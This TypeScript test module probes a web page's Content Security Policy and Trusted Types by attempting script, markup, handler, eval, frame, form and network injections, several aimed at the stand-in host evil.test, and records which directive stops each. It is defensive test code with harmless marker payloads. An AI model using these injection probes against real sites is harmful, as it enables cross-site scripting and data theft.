// What is run in a page: these functions know nothing of this file but what is inside of them.

/**
 * Tries everything that somebody could do who can write in the page. Gives what the page's policy said of each, by a name
 * that begins with the directive that ought to stop it; `nothing` where none did, `it ran` where code did.
 */
export async function attacks(): Promise<Record<string, string>> {
  const evil = 'https://evil.test'
  const code = 'window.hasRun = true'
  const seen = window as unknown as { hasRun?: boolean }
  const make = (tag: string, properties: object = {}) =>
    document.body.appendChild(Object.assign(document.createElement(tag), properties))
  const quietly = (act: () => unknown) => {
    try {
      const outcome = act()
      if (outcome instanceof Promise) outcome.catch(() => {})
    } catch {} // what is stopped may also throw; the report is what counts
  }
  const onLink = (href: string) => make('a', { href }).click()

  // While no text may become code or markup at all.
  const untrusted: Record<string, () => unknown> = {
    'require-trusted-types-for: markup': () => make('p', { innerHTML: '<img src=x onerror=0>' }),
    'require-trusted-types-for: markup beside': () => make('p').insertAdjacentHTML('beforeend', '<b>x</b>'),
    'require-trusted-types-for: a document of text': () =>
      new DOMParser().parseFromString('<b>', 'text/html'),
    'require-trusted-types-for: a frame of text': () => make('iframe', { srcdoc: '<b>x</b>' }),
    'require-trusted-types-for: code': () => make('script', { textContent: code }),
    'require-trusted-types-for: the address of a script': () => make('script', { src: `${evil}/x.js` }),
    'require-trusted-types-for: a handler': () => make('p').setAttribute('onclick', code),
    'require-trusted-types-for: a timer of text': () => setTimeout(code as unknown as () => void),
    'trusted-types: a policy of the attacker': () =>
      (
        window as unknown as { trustedTypes: { createPolicy(...of: unknown[]): void } }
      ).trustedTypes.createPolicy('evil', {}),
  }
  // With that switched off, as in a browser that does not know it.
  const trusted: Record<string, () => unknown> = {
    'script-src-elem: inline code': () => make('script', { textContent: code }),
    'script-src-elem: a foreign script': () => make('script', { src: `${evil}/x.js` }),
    'script-src-elem: code in a link': () => onLink(`javascript:${code}`),
    'script-src-attr: an inline handler': () => make('p').setAttribute('onclick', code),
    // biome-ignore lint/security/noGlobalEval: it has to be refused
    'script-src: code of text': () => eval(code),
    'style-src-elem: an inline style sheet': () => make('style', { textContent: 'body { display: none }' }),
    'style-src-elem: a foreign style sheet': () => make('link', { rel: 'stylesheet', href: `${evil}/x.css` }),
    'style-src-attr: a style attribute': () => make('p').setAttribute('style', 'position: fixed'),
    'frame-src: a foreign frame': () => make('iframe', { src: evil }),
    'frame-src: a frame of data': () => make('iframe', { src: 'data:text/html,x' }),
    'object-src: a plug-in': () => make('object', { data: `${evil}/x.swf` }),
    'base-uri: another base': () => make('base', { href: evil }),
    'form-action: a foreign form': () =>
      (make('form', { action: evil, method: 'post' }) as HTMLFormElement).submit(),
    'connect-src: a foreign call': () => fetch(evil),
    'connect-src: a foreign socket': () => new WebSocket('wss://evil.test'),
    // Besides: 'worker-src', 'font-src' and 'manifest-src' are as narrow as 'script-src'.
  }

  const found: Record<string, string> = {}
  const tryAll = async (probes: Record<string, () => unknown>) => {
    for (const [name, probe] of Object.entries(probes)) {
      const said = new Promise<string>(tell => {
        addEventListener('securitypolicyviolation', it => tell(it.effectiveDirective), { once: true })
        setTimeout(tell, 2000, 'nothing')
      })
      quietly(probe)
      found[name] = seen.hasRun ? 'it ran' : await said
    }
  }
  await tryAll(untrusted)
  const letThrough = (text: string) => text
  ;(
    window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
  ).trustedTypes.createPolicy('default', {
    createHTML: letThrough,
    createScript: letThrough,
    createScriptURL: letThrough,
  })
  await tryAll(trusted)
  return found
}

/** Does what the club's pages do; gives what their policy stopped of it. */
export async function needs(): Promise<string[]> {
  const stopped: string[] = []
  addEventListener('securitypolicyviolation', it => stopped.push(`${it.effectiveDirective} ${it.blockedURI}`))
  const settled = (target: EventTarget) =>
    new Promise(done => {
      for (const event of ['load', 'error', 'open']) target.addEventListener(event, done, { once: true })
    })
  const load = (tag: string, src: string) =>
    settled(document.body.appendChild(Object.assign(document.createElement(tag), { src })))
  await load('iframe', 'https://www.youtube-nocookie.com/embed/x')
  await load('iframe', 'https://player.twitch.tv/?channel=x')
  await load('img', 'https://pictures.test/x.png')
  await load('img', URL.createObjectURL(new Blob(['x'], { type: 'image/png' })))
  document.body.style.setProperty('--is-set-by-script', '1')
  await settled(new WebSocket(`${location.origin.replace('http', 'ws')}/ws`))
  await fetch('/api/config')
  return stopped
}

/** Puts a page into a frame; gives the frame. */
export function frame(src: string): HTMLIFrameElement {
  return document.body.appendChild(Object.assign(document.createElement('iframe'), { src }))
}
